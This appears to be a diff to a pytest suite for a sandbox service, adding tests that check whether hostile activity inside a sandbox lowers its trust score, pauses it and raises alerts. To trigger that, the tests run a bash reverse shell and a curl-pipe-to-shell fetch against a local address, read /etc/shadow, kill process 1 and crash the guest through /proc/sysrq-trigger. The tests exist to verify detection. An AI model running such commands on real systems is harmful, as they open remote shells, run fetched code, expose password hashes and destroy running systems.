@@ -4,12 +4,11 @@ import json
 
 import product
 import pytest
-import yaml
 
 
 @pytest.fixture(scope="module")
 def server():
-    with product.Server() as s:
+    with product.Server(config="notify: {interval_seconds: 1}\n") as s:
         yield s
 
 
@@ -62,3 +61,47 @@ def test_work_costs_nothing_and_deeds_cost_with_their_evidence(server):
     assert [[d[k] for k in same] for d in again["deductions"]] == [[d[k] for k in same] for d in ended["deductions"]]
     shown = server.cli("trust", s.id, "--explain").stdout
     assert "exec.remote-script" in shown and "unread" in shown
+
+
+def alerts(server, sandbox):
+    return {(a["rule_type"], a["severity"]): a for a in server.api("GET", "/v1/alerts?limit=100")["alerts"] if a["sandbox_id"] == sandbox.id}
+
+
+def test_low_trust_alerts_and_pauses_once_and_failures_alert(server):
+    s = server.create(memory_mb=256, disk_gb=1)
+    s.exec("bash -i >& /dev/tcp/127.0.0.1/9 0>&1; curl -s http://127.0.0.1:9/x | sh; cat /etc/shadow; kill -9 1")
+    product.wait_for("it is paused", lambda: s.get()["status"] == "paused", 60)
+    assert s.get()["pause_reason"] == "trust" and s.get()["trust_score"] < 30
+    raised = alerts(server, s)
+    assert ("trust_score_low", "critical") in raised and raised["trust_score_low", "critical"]["meta"]["score"]
+    alert = raised["trust_score_low", "critical"]
+    assert server.api("GET", f"/v1/alerts/{alert['id']}") == alert
+    told = server.api("GET", "/v1/notifications")["notifications"]
+    assert any(n["alert_id"] == alert["id"] and n["channel"] == "in_app" for n in told)
+    server.api("POST", f"/v1/alerts/{alert['id']}/resolve")
+    assert server.api("GET", f"/v1/alerts/{alert['id']}")["state"] == "resolved"
+
+    score = s.get()["trust_score"]
+    server.api("POST", s.path + "/resume")
+    s.run("true")  # whoever resumes it has seen why it stood still
+    assert s.get()["status"] == "running" and s.get()["trust_score"] == score
+    for _ in range(12):
+        assert s.exec("exit 3")["exit_code"] == 3
+    product.wait_for("failures are told", lambda: ("error_spike", "warning") in alerts(server, s), 60, 0.3)
+    s.destroy()
+    again = json.loads(server.cli("trust", "recompute", s.id, "--json").stdout)
+    assert again["score"] == trust(s)["score"] == score
+    numbers = [d["n"] for d in trust(s)["deductions"]]
+    assert numbers == list(range(1, len(numbers) + 1))  # the warden after the pause told nothing twice
+
+
+def test_a_sandbox_that_fails_alerts(server):
+    s = server.create(memory_mb=256, disk_gb=1)
+    try:
+        s.exec("echo c > /proc/sysrq-trigger", user="root", timeout_ms=5000)
+    except Exception:  # noqa: BLE001, S110 - the guest is gone while it answers
+        pass
+    product.wait_for("it is an error", lambda: s.get()["status"] == "error", 60)
+    product.wait_for("it is told", lambda: ("sandbox_error", "critical") in alerts(server, s), 60, 0.3)
+    assert "observer.attacked" in rules_of(s)
+    s.destroy()
